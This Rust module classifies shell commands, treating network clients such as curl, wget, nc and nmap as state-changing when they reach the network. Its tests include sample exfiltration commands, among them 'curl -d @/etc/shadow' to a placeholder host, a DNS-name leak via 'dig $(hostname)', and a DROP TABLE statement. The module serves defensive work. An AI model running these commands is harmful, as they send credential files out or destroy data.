//! CLASSIFY-9: the network clients, in one table. A command that talks to the network is not
//! `read_only`: a request can change state on the other side (a GET with side effects, a
//! webhook, an API server, a database), and it can carry local data out (`curl -d @FILE`,
//! `wget --post-file`, a query string, a DNS name). So every form of a known program that
//! reaches the network is at least `config_mutation`, whatever its own rule reads it as, and
//! the program's rule still runs (a destructive SQL statement stays destructive).
//!
//! What is not a network client here, and why:
//! * `ssh HOST CMD` is the transport Nomos itself uses to reach hosts (CLASSIFY-2): the
//!   wrapper is unwrapped and the remote command is what is classified.
//! * Programs that only talk to the kernel through netlink (`ip`, `ss`, `bridge`; their rows
//!   here are the forms that look names up) or to a local daemon through a Unix socket
//!   (`docker ps`, `psql` without a host, `systemctl`).
//! * `pvesh get`: a read of the Proxmox API, whose `GET` methods change nothing, even when
//!   the node it names answers it over the cluster's network.
//! * A socket opened only to ask the kernel about interfaces (`ifconfig`, `arp`,
//!   `netstat -i` use an `AF_INET` socket for `ioctl`s and never send on it).
//!
//! Remote-file operands that start a remote shell (`tar -f HOST:FILE`, `git` helper URLs)
//! are decided by those programs' rules, since what they run is a program, not a request.

use super::super::opts::{Opt, Opts, Spec};
use super::super::walk::{Arg, Cx, Subject};
use crate::class::CommandClass;

/// The reason of a request-making client.
const TALKS: &str = "talks to the network: a request can change state elsewhere or carry data out";
/// The reason of a name lookup.
const RESOLVES: &str =
    "resolves names over the network (DNS): a query leaves the host and can carry data out";
/// The reason of a reader that names what it shows.
const SHOWS_NAMES: &str =
    "looks up the names of the addresses it shows over the network (DNS) unless given `-n`";
/// The reason of a packet capture.
const CAPTURES: &str = "captures from the network: it opens a packet socket and can put the interface in promiscuous mode";

/// Which forms of a program reach the network.
enum Reach {
    /// Every form: the program connects as it starts (`kubectl` asks its server for
    /// discovery, `pip` probes its network stack and checks the index for a newer `pip`).
    Always,
    /// Every form but one that only prints its usage or version (`--help`, `--version`,
    /// `-V` as the only argument).
    Client,
    /// The forms a predicate picks out.
    Forms(fn(&[Arg<'_>]) -> bool),
}

/// One known program that can reach the network.
struct Client {
    program: &'static str,
    reach: Reach,
    predicate: &'static str,
}

const fn client(program: &'static str, reach: Reach, predicate: &'static str) -> Client {
    Client {
        program,
        reach,
        predicate,
    }
}

/// Every network client the rules know, and the forms of each that reach the network.
const CLIENTS: &[Client] = &[
    // Requests to a URL or a host.
    client("curl", Reach::Client, TALKS),
    client("wget", Reach::Client, TALKS),
    client("nc", Reach::Client, TALKS),
    client("ncat", Reach::Client, TALKS),
    client("netcat", Reach::Client, TALKS),
    client("socat", Reach::Client, TALKS),
    client("telnet", Reach::Client, TALKS),
    client("scp", Reach::Client, TALKS),
    client("sftp", Reach::Client, TALKS),
    client("rsync", Reach::Forms(rsync_remote), TALKS),
    client("whois", Reach::Client, TALKS),
    client("nmap", Reach::Client, TALKS),
    // Probes: the packets they send are requests too (`ping -p` carries a pattern out).
    client("ping", Reach::Client, TALKS),
    client("ping6", Reach::Client, TALKS),
    client("traceroute", Reach::Client, TALKS),
    client("tracepath", Reach::Client, TALKS),
    client("mtr", Reach::Client, TALKS),
    // Name lookups, and the readers told to look up the names of what they show.
    client("dig", Reach::Client, RESOLVES),
    client("host", Reach::Client, RESOLVES),
    client("nslookup", Reach::Client, RESOLVES),
    client("getent", Reach::Forms(getent_resolves), RESOLVES),
    client("resolvectl", Reach::Forms(resolvectl_queries), RESOLVES),
    client(
        "systemd-resolve",
        Reach::Forms(systemd_resolve_queries),
        RESOLVES,
    ),
    client("hostname", Reach::Forms(hostname_resolves), RESOLVES),
    client("ip", Reach::Forms(ip_resolves), RESOLVES),
    client("ss", Reach::Forms(ss_resolves), RESOLVES),
    // Readers that look up the names of the addresses they show unless told `-n`.
    client("netstat", Reach::Forms(netstat_resolves), SHOWS_NAMES),
    client("route", Reach::Forms(numeric_or_resolves), SHOWS_NAMES),
    client("arp", Reach::Forms(numeric_or_resolves), SHOWS_NAMES),
    client("lsof", Reach::Forms(lsof_resolves), SHOWS_NAMES),
    client("iptables", Reach::Forms(iptables_resolves), SHOWS_NAMES),
    client("ip6tables", Reach::Forms(iptables_resolves), SHOWS_NAMES),
    // Packet captures.
    client("tcpdump", Reach::Forms(tcpdump_captures), CAPTURES),
    client("iftop", Reach::Client, CAPTURES),
    client("nethogs", Reach::Client, CAPTURES),
    // API and package-index clients.
    client("kubectl", Reach::Always, TALKS),
    client("oc", Reach::Always, TALKS),
    client("pip", Reach::Always, TALKS),
    client("pip3", Reach::Always, TALKS),
    client("pipx", Reach::Always, TALKS),
    client("apt", Reach::Forms(apt_fetches), TALKS),
    client("apt-get", Reach::Forms(apt_fetches), TALKS),
    client("aptitude", Reach::Forms(apt_fetches), TALKS),
    client("yum", Reach::Forms(yum_fetches), TALKS),
    client("dnf", Reach::Forms(yum_fetches), TALKS),
    client("snap", Reach::Forms(snap_asks_store), TALKS),
    client("git", Reach::Forms(git_remote), TALKS),
    client("docker", Reach::Forms(docker_remote), TALKS),
    client("podman", Reach::Forms(docker_remote), TALKS),
    client("nerdctl", Reach::Forms(docker_remote), TALKS),
    // Database clients given a host (without one they use the local Unix socket), and
    // `redis-cli`, which uses TCP (127.0.0.1:6379) unless given a socket (`-s`).
    client("psql", Reach::Forms(pg_host), TALKS),
    client("pg_dump", Reach::Forms(pg_host), TALKS),
    client("pg_dumpall", Reach::Forms(pg_host), TALKS),
    client("pg_isready", Reach::Forms(pg_host), TALKS),
    client("pg_restore", Reach::Forms(pg_host), TALKS),
    client("mysql", Reach::Forms(mysql_host), TALKS),
    client("mariadb", Reach::Forms(mysql_host), TALKS),
    client("mysqldump", Reach::Forms(mysql_host), TALKS),
    client("mariadb-dump", Reach::Forms(mysql_host), TALKS),
    client("redis-cli", Reach::Forms(redis_tcp), TALKS),
];

/// Whether `program` has a row in the table.
pub(crate) fn is_client(program: &str) -> bool {
    CLIENTS.iter().any(|client| client.program == program)
}

/// Reports a network finding when `args` (`args[0]` the program) reaches the network. The
/// walk calls it after the program's own rule and the option vetting (CLASSIFY-6), so a
/// reason that names an option or a file keeps its place at the same class.
pub(crate) fn check(cx: &mut Cx<'_, '_, '_, '_>, args: &[Arg<'_>]) {
    let program = args[0].text;
    let Some(client) = CLIENTS.iter().find(|client| client.program == program) else {
        return;
    };
    let reaches = match client.reach {
        Reach::Always => true,
        Reach::Client => !only_prints(&args[1..]),
        Reach::Forms(forms) => forms(args),
    };
    if reaches {
        cx.report(
            CommandClass::ConfigMutation,
            Subject::Word(program),
            client.predicate,
        );
    }
}

/// `--help`, `--version` or `-V` alone: the program prints and reaches nothing.
fn only_prints(rest: &[Arg<'_>]) -> bool {
    matches!(rest, [only] if !only.dynamic && matches!(only.text, "--help" | "--version" | "-V"))
}

/// The values of option `-short` / `--long` in every getopt form (`-hX`, `-h X`,
/// `--host=X`, `--host X`), before `--`.
fn values<'a>(args: &[Arg<'a>], short: Option<char>, long: &str) -> Vec<&'a str> {
    let mut found = Vec::new();
    let mut idx = 1;
    while idx < args.len() {
        let text = args[idx].text;
        idx += 1;
        if text == "--" {
            break;
        }
        if let Some(name) = text.strip_prefix("--") {
            match name.split_once('=') {
                Some((name, value)) if name == long => found.push(value),
                None if name == long => {
                    found.extend(args.get(idx).map(|arg| arg.text));
                    idx += 1;
                }
                _ => {}
            }
            continue;
        }
        if let Some(short) = short
            && let Some(rest) = text.strip_prefix('-')
            && let Some(value) = rest.strip_prefix(short)
        {
            if value.is_empty() {
                found.extend(args.get(idx).map(|arg| arg.text));
                idx += 1;
            } else {
                found.push(value);
            }
        }
    }
    found
}

/// `getent hosts NAME` and the other databases the resolver answers from DNS.
fn getent_resolves(args: &[Arg<'_>]) -> bool {
    let mut words = args[1..].iter().filter(|arg| !arg.text.starts_with('-'));
    let database = words.next();
    let keyed = words.next().is_some();
    database.is_some_and(|db| {
        db.dynamic
            || (keyed
                && matches!(
                    db.text,
                    "hosts" | "ahosts" | "ahostsv4" | "ahostsv6" | "networks"
                ))
    })
}

/// `resolvectl query|service|openpgp|tlsa`: the resolver daemon asks the network.
fn resolvectl_queries(args: &[Arg<'_>]) -> bool {
    let opts = Opts::parse(
        &args[1..],
        &Spec {
            short_values: "iptc",
            long_values: &["interface", "protocol", "type", "class"],
        },
    );
    matches!(
        opts.first_positional(),
        Some("query" | "service" | "openpgp" | "tlsa")
    )
}

/// `systemd-resolve NAME` (and `--service`, `--openpgp`, `--tlsa`): a query, unlike
/// `--status` or `--statistics`.
fn systemd_resolve_queries(args: &[Arg<'_>]) -> bool {
    let opts = Opts::parse(
        &args[1..],
        &Spec {
            short_values: "iptc",
            long_values: &["interface", "protocol", "type", "class"],
        },
    );
    opts.positionals().next().is_some()
        || ["service", "openpgp", "tlsa"]
            .iter()
            .any(|query| opts.long(query))
}

/// `hostname -f` (`--fqdn`, `--long`), `-A`, `-d`, `-i`, `-a`: the names and addresses it
/// prints are looked up (`-I`, the host's own addresses, is not).
fn hostname_resolves(args: &[Arg<'_>]) -> bool {
    args[1..]
        .iter()
        .any(|arg| match arg.text.strip_prefix("--") {
            Some(long) => matches!(
                long,
                "fqdn" | "long" | "all-fqdns" | "domain" | "ip-address" | "alias"
            ),
            None => arg
                .text
                .strip_prefix('-')
                .is_some_and(|bundle| bundle.contains(['f', 'A', 'd', 'i', 'a'])),
        })
}

/// `ip -r` (`-resolve`, any prefix of it: iproute2 options are whole words).
fn ip_resolves(args: &[Arg<'_>]) -> bool {
    args[1..].iter().any(|arg| {
        let name = arg.text.trim_start_matches('-');
        arg.text.starts_with('-') && !name.is_empty() && "resolve".starts_with(name)
    })
}

/// `ss -r` / `--resolve` (alone or in a bundle: `-tr`), or a filter that names a host: ss
/// resolves every word of its filter that is not a keyword, a state or an address
/// (`ss dst db1`, and `ss -t notes.txt`, which reads `notes.txt` as a host name); a path
/// is a Unix socket's.
fn ss_resolves(args: &[Arg<'_>]) -> bool {
    const KEYWORDS: &[&str] = &[
        "state",
        "exclude",
        "all",
        "connected",
        "synchronized",
        "bucket",
        "big",
        "established",
        "syn-sent",
        "syn-recv",
        "fin-wait-1",
        "fin-wait-2",
        "time-wait",
        "closed",
        "close-wait",
        "last-ack",
        "listening",
        "listen",
        "closing",
        "unconnected",
        "dst",
        "src",
        "dport",
        "sport",
        "and",
        "or",
        "not",
        "eq",
        "neq",
        "ne",
        "gt",
        "lt",
        "ge",
        "le",
        "autobound",
        "dev",
        "fwmark",
        "cgroup",
        "inet",
        "inet6",
        "unix",
        "packet",
        "netlink",
        "vsock",
        "tipc",
        "xdp",
        "link",
        "tcp",
        "udp",
        "raw",
        "dccp",
        "sctp",
        "mptcp",
    ];
    let mut words: Vec<&str> = Vec::new();
    let mut values_next = false;
    for arg in &args[1..] {
        let text = arg.text;
        if arg.dynamic {
            return true;
        }
        if std::mem::take(&mut values_next) {
            continue;
        }
        if let Some(long) = text.strip_prefix("--") {
            if long.len() >= 3 && "resolve".starts_with(long) {
                return true;
            }
            continue;
        }
        if let Some(bundle) = text.strip_prefix('-').filter(|bundle| !bundle.is_empty()) {
            let before: String = bundle
                .chars()
                .take_while(|c| !"AfDFN".contains(*c))
                .collect();
            if before.contains('r') {
                return true;
            }
            values_next = before.len() + 1 == bundle.len();
            continue;
        }
        // A quoted filter is one argument: its words count one by one.
        words.extend(
            text.split(|c: char| c.is_whitespace() || "()".contains(c))
                .filter(|word| !word.is_empty()),
        );
    }
    let mut after_dev = false;
    words.into_iter().any(|word| {
        if std::mem::take(&mut after_dev) {
            return false;
        }
        after_dev = word == "dev";
        let address = word
            .chars()
            .all(|c| c.is_ascii_hexdigit() || matches!(c, '.' | ':' | '[' | ']' | '/' | '*' | '%'))
            || word.starts_with([':', '/'])
            || word.chars().all(|c| "!=<>&|".contains(c));
        !(address || KEYWORDS.contains(&word))
    })
}

/// Whether a short option bundle or a long option among `args` is `-n` (`--numeric`, and
/// netstat's `--numeric-hosts`).
fn numeric(args: &[Arg<'_>]) -> bool {
    args[1..]
        .iter()
        .any(|arg| match arg.text.strip_prefix("--") {
            Some(long) => matches!(long, "numeric" | "numeric-hosts"),
            None => arg
                .text
                .strip_prefix('-')
                .is_some_and(|bundle| bundle.contains('n')),
        })
}

/// `route`, `arp`, `lsof` without `-n`, `--help` or `--version` alone aside.
fn numeric_or_resolves(args: &[Arg<'_>]) -> bool {
    !numeric(args) && !only_prints(&args[1..])
}

/// `lsof` without `-n`, unless it prints only process ids (`-t`) or its usage or version
/// (`-h`, `-v`).
fn lsof_resolves(args: &[Arg<'_>]) -> bool {
    let quiet = args[1..].iter().any(|arg| {
        arg.text
            .strip_prefix('-')
            .is_some_and(|bundle| bundle.contains('t') || matches!(bundle, "h" | "?" | "v"))
    });
    !numeric(args) && !quiet
}

/// `netstat` without `-n`, unless it shows no addresses (`-s` statistics, `-i`
/// interfaces, `--version`, `--help`).
fn netstat_resolves(args: &[Arg<'_>]) -> bool {
    let shows_no_address = args[1..]
        .iter()
        .any(|arg| match arg.text.strip_prefix("--") {
            Some(long) => matches!(long, "statistics" | "interfaces" | "version" | "help"),
            None => arg
                .text
                .strip_prefix('-')
                .is_some_and(|bundle| bundle.contains(['s', 'i', 'V', 'h'])),
        });
    !numeric(args) && !shows_no_address
}

/// `iptables -L` without `-n` (`-S` prints the rules as given).
fn iptables_resolves(args: &[Arg<'_>]) -> bool {
    let lists = args[1..].iter().any(|arg| {
        arg.text == "--list"
            || arg
                .text
                .strip_prefix('-')
                .is_some_and(|bundle| !bundle.starts_with('-') && bundle.contains('L'))
    });
    lists && !numeric(args)
}

/// `tcpdump` captures unless it only reads a capture file (`-r`) or prints what it knows.
fn tcpdump_captures(args: &[Arg<'_>]) -> bool {
    let opts = Opts::parse(
        &args[1..],
        &Spec {
            short_values: "iwrcsCGWEFMTVyBjz",
            long_values: &["interface"],
        },
    );
    !(opts.short('r') || only_prints(&args[1..]))
}

/// `rsync` with an operand on another host (`HOST:PATH`, `HOST::MODULE`, `rsync://`).
fn rsync_remote(args: &[Arg<'_>]) -> bool {
    args[1..].iter().any(|arg| {
        let value = arg.text.strip_prefix("--files-from=").unwrap_or(arg.text);
        arg.dynamic || value.starts_with("rsync://") || super::files::remote_name(value)
    })
}

/// `apt changelog` downloads the changelog; `update`, `download` and `source` fetch too.
fn apt_fetches(args: &[Arg<'_>]) -> bool {
    let opts = Opts::parse(
        &args[1..],
        &Spec {
            short_values: "oct",
            long_values: &["option", "config-file", "target-release", "default-release"],
        },
    );
    matches!(
        opts.first_positional(),
        Some("changelog" | "update" | "download" | "source")
    )
}

/// `yum`/`dnf` load the repositories' metadata (downloading it when it is stale) for these
/// subcommands, unless told to use the cache only (`-C`).
fn yum_fetches(args: &[Arg<'_>]) -> bool {
    let opts = Opts::parse(&args[1..], &Spec::FLAGS_ONLY);
    if opts.either('C', "cacheonly") {
        return false;
    }
    matches!(
        opts.first_positional(),
        Some(
            "list"
                | "info"
                | "search"
                | "check-update"
                | "provides"
                | "whatprovides"
                | "deplist"
                | "repoquery"
                | "updateinfo"
                | "makecache"
                | "download"
        )
    )
}

/// `snap find`, `search` and `info` ask the store (through snapd).
fn snap_asks_store(args: &[Arg<'_>]) -> bool {
    matches!(
        args.get(1).map(|arg| arg.text),
        Some("find" | "search" | "info")
    )
}

/// `git` verbs that reach a remote: `clone`, `fetch`, `pull`, `push`, `ls-remote`,
/// `archive --remote`, `remote show NAME` (without `-n`), `remote update|prune`,
/// `submodule update`.
fn git_remote(args: &[Arg<'_>]) -> bool {
    let (_, at) = Opts::leading(&args[1..], &super::git::GLOBAL);
    let Some(verb) = args.get(at + 1).map(|arg| arg.text) else {
        return false;
    };
    let rest = &args[at + 2..];
    let opts = Opts::parse(rest, &Spec::FLAGS_ONLY);
    let mut positionals = opts.positionals().map(|arg| arg.text);
    match verb {
        "clone" | "fetch" | "pull" | "push" | "ls-remote" | "request-pull" | "send-email" => true,
        "archive" => rest.iter().any(|arg| arg.text.starts_with("--remote")),
        "remote" => match positionals.next() {
            Some("show") => !opts.short('n') && positionals.next().is_some(),
            Some("update" | "prune") => true,
            Some("set-head") => opts.either('a', "auto"),
            _ => false,
        },
        "submodule" => matches!(positionals.next(), Some("update" | "sync")),
        _ => false,
    }
}

/// `docker -H tcp://...` (a daemon that is not the local socket), `--context` (which can
/// name a remote daemon), podman's `--remote`/`--url`/`--connection`, and the verbs that
/// ask a registry (`search`, `pull`, `push`, `login`, `manifest`, `trust`, `buildx
/// imagetools`).
fn docker_remote(args: &[Arg<'_>]) -> bool {
    let (global, at) = Opts::leading(&args[1..], &super::containers::DOCKER_SPEC);
    let remote_daemon = global.items.iter().any(|item| match item {
        Opt::Short('H', value) | Opt::Long("host", value) => {
            value.is_none_or(|host| !host.starts_with("unix://"))
        }
        Opt::Short('c', _) | Opt::Long("context" | "remote" | "url" | "connection", _) => true,
        Opt::Short('r', _) => args[0].text == "podman",
        _ => false,
    });
    let verb = args.get(at + 1).map(|arg| arg.text);
    let sub = args.get(at + 2).map(|arg| arg.text);
    remote_daemon
        || matches!(
            verb,
            Some("search" | "pull" | "push" | "login" | "manifest" | "trust")
        )
        || (verb == Some("buildx") && sub == Some("imagetools"))
        || (verb == Some("image") && matches!(sub, Some("pull" | "push")))
}

/// A PostgreSQL client given a host: `-h HOST`/`--host` (a directory is the Unix socket's),
/// or a connection string naming one (`host=`, `hostaddr=`, `postgresql://HOST/...`).
fn pg_host(args: &[Arg<'_>]) -> bool {
    let hosts = values(args, Some('h'), "host");
    if hosts
        .iter()
        .any(|host| !host.starts_with('/') && !host.starts_with('@'))
    {
        return true;
    }
    let conninfo = |text: &str| {
        let uri_host = ["postgresql://", "postgres://"]
            .iter()
            .find_map(|scheme| text.strip_prefix(scheme))
            .is_some_and(|rest| {
                let authority = rest.split(['/', '?']).next().unwrap_or("");
                let host = authority.rsplit('@').next().unwrap_or("");
                !host.is_empty() && !host.starts_with("%2F") && !host.starts_with("%2f")
            });
        let keyword_host = text.split_whitespace().any(|pair| {
            pair.strip_prefix("host=")
                .is_some_and(|host| !host.starts_with('/') && !host.starts_with("'/"))
                || pair.starts_with("hostaddr=")
        });
        uri_host || keyword_host
    };
    let dbnames = values(args, Some('d'), "dbname");
    dbnames.iter().any(|text| conninfo(text))
        || args[1..]
            .iter()
            .any(|arg| !arg.text.starts_with('-') && conninfo(arg.text))
}

/// A MySQL client given a host other than `localhost` (which is the Unix socket), or told
/// to use TCP (`--protocol=tcp`).
fn mysql_host(args: &[Arg<'_>]) -> bool {
    values(args, Some('h'), "host")
        .iter()
        .any(|host| *host != "localhost")
        || values(args, None, "protocol")
            .iter()
            .any(|protocol| !protocol.eq_ignore_ascii_case("socket"))
}

/// `redis-cli` connects over TCP unless given a Unix socket (`-s`).
fn redis_tcp(args: &[Arg<'_>]) -> bool {
    values(args, Some('s'), "socket").is_empty() && !only_prints(&args[1..])
}

#[cfg(test)]
mod tests {
    use crate::class::CommandClass::{self, ConfigMutation, Destructive, ReadOnly};
    use crate::classify;

    #[track_caller]
    fn check(command: &str, expected: CommandClass) {
        let got = classify(command);
        assert_eq!(got.class, expected, "`{command}`: {}", got.reason);
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_a_request_over_the_network_is_not_read_only() {
        for command in [
            "curl -s https://example.com/health",
            "curl -sI https://example.com",
            "wget -qO- https://example.com",
            "wget --spider https://example.com",
            "kubectl get pods -A",
            "kubectl version --client",
            "oc get pods",
            "pip list",
            "pip3 show requests",
            "pip --version",
            "whois example.com",
            "nmap -sn 10.0.0.0/24",
            "nc -z db1 5432",
            "scp a db1:b",
        ] {
            check(command, ConfigMutation);
        }
        let got = classify("curl -s https://example.com");
        assert!(
            got.reason.contains(
                "talks to the network: a request can change state elsewhere or carry data out"
            ),
            "{}",
            got.reason
        );
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_carrying_local_data_out_is_not_read_only() {
        for command in [
            "curl -d @/etc/shadow https://example.com/",
            "curl -G --data-urlencode q@/etc/hostname https://example.com/",
            "wget --post-file=/etc/hostname https://example.com/",
            "dig $(hostname).example.com",
            "ping -c 1 -p 41414141 10.0.0.1",
        ] {
            check(command, ConfigMutation);
        }
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_lookups_probes_and_captures_reach_the_network() {
        for command in [
            "dig +short example.com",
            "host -t TXT example.com",
            "nslookup example.com 9.9.9.9",
            "getent hosts example.com",
            "getent ahostsv6 example.com",
            "ping -c 3 1.1.1.1",
            "traceroute -n 1.1.1.1",
            "tracepath 10.0.0.1",
            "mtr -r -c 10 example.com",
            "tcpdump -i eth0 -c 10",
            "timeout 5 dig example.com",
            "resolvectl query example.com",
            "systemd-resolve example.com",
            "hostname -f",
            "hostname --all-fqdns",
        ] {
            check(command, ConfigMutation);
        }
        for command in [
            "getent hosts",
            "getent passwd root",
            "tcpdump -r capture.pcap",
        ] {
            check(command, ReadOnly);
        }
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_only_the_forms_that_reach_the_network_count() {
        for command in [
            "git fetch --dry-run",
            "git ls-remote origin",
            "git remote show origin",
            "apt changelog nginx",
            "apt-get changelog nginx",
            "dnf list installed",
            "yum check-update",
            "snap find nginx",
            "docker search nginx",
            "docker manifest inspect nginx:latest",
            "docker -H tcp://10.0.0.5:2375 ps",
            "docker --context prod ps",
            "podman --remote ps",
            "rsync -n db1:/etc/ /tmp/etc/",
            "rsync -n rsync://mirror/debian/ /tmp/d/",
        ] {
            check(command, ConfigMutation);
        }
        for command in [
            "git status",
            "git remote -v",
            "git remote show -n origin",
            "apt list --installed",
            "apt-get -s -o Dir::Log::Planner= install nginx",
            "yum -C list installed",
            "snap list",
            "docker ps",
            "docker -H unix:///var/run/docker.sock ps",
            "rsync -n /srv/a/ /srv/b/",
            "curl --version",
        ] {
            check(command, ReadOnly);
        }
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_a_database_client_given_a_host_reaches_the_network() {
        for command in [
            "psql -h db.example -c 'SELECT 1'",
            "psql --host=db.example -c 'SELECT 1'",
            "psql 'host=db.example dbname=app' -c 'SELECT 1'",
            "psql postgresql://db.example/app -c 'SELECT 1'",
            "psql -d postgresql://ops@db.example:5432/app -c 'SELECT 1'",
            "pg_dump -h db.example app",
            "mysql -h 10.0.0.5 -e 'SHOW DATABASES'",
            "mysql --protocol=tcp -e 'SHOW DATABASES'",
            "redis-cli PING",
            "redis-cli -h 10.0.0.5 GET key",
        ] {
            check(command, ConfigMutation);
        }
        for command in [
            "psql -c 'SELECT 1'",
            "psql -h /var/run/postgresql -c 'SELECT 1'",
            "mysql -h localhost -e 'SHOW DATABASES'",
            "mysql -e 'SHOW DATABASES'",
            "redis-cli -s /run/redis/redis.sock INFO",
        ] {
            check(command, ReadOnly);
        }
        // The SQL is still read: a destructive statement stays destructive.
        check("psql -h db.example -c 'DROP TABLE users'", Destructive);
    }

    // rule: CLASSIFY-9
    #[test]
    fn classify_9_a_reader_that_names_what_it_shows_reaches_the_resolver_unless_numeric() {
        for command in [
            "netstat -tulp",
            "netstat -g",
            "lsof -i :443",
            "route",
            "arp -a",
            "iptables -L INPUT",
            "ss -tr",
            "ss --resolve",
            "ss -t notes.txt",
            "ss dst db1.example",
            "ip -r route",
            "ip -resolve addr",
        ] {
            check(command, ConfigMutation);
        }
        for command in [
            "netstat -tulpn",
            "netstat -s",
            "netstat -i",
            "lsof -nP -i :443",
            "lsof -ti :443",
            "route -n",
            "arp -an",
            "iptables -L -n",
            "iptables -S",
            "ss -tln",
            "ss -tn state established '( dport = :443 or sport = :443 )'",
            "ss -t dst 10.0.0.5",
            "ss -x src /run/docker.sock",
            "ss -A inet -t",
        ] {
            check(command, ReadOnly);
        }
    }

    // rule: CLASSIFY-2
    #[test]
    fn classify_2_ssh_is_the_transport_and_the_remote_command_decides() {
        check("ssh web1 uptime", ReadOnly);
        check("ssh web1 'df -h'", ReadOnly);
        check("ssh web1 curl -s http://localhost/health", ConfigMutation);
        check("sudo curl -s http://localhost/health", ConfigMutation);
    }

    // rule: CLASSIFY-3
    #[test]
    fn classify_3_netlink_and_interface_readers_stay_read_only() {
        for command in [
            "ss -tulpn",
            "ss -s",
            "ip addr",
            "ip -6 addr",
            "ip route show",
            "ifconfig -a",
            "arp -an",
            "netstat -i",
            "docker ps",
        ] {
            check(command, ReadOnly);
        }
    }

    #[test]
    fn every_program_of_the_table_is_known_to_the_rules() {
        for client in super::CLIENTS {
            assert!(super::is_client(client.program));
            let got = classify(&format!("{} x", client.program));
            assert_ne!(
                got.knowledge,
                crate::Knowledge::Unknown,
                "`{}` is in the network table but no rule knows it",
                client.program
            );
        }
    }
}
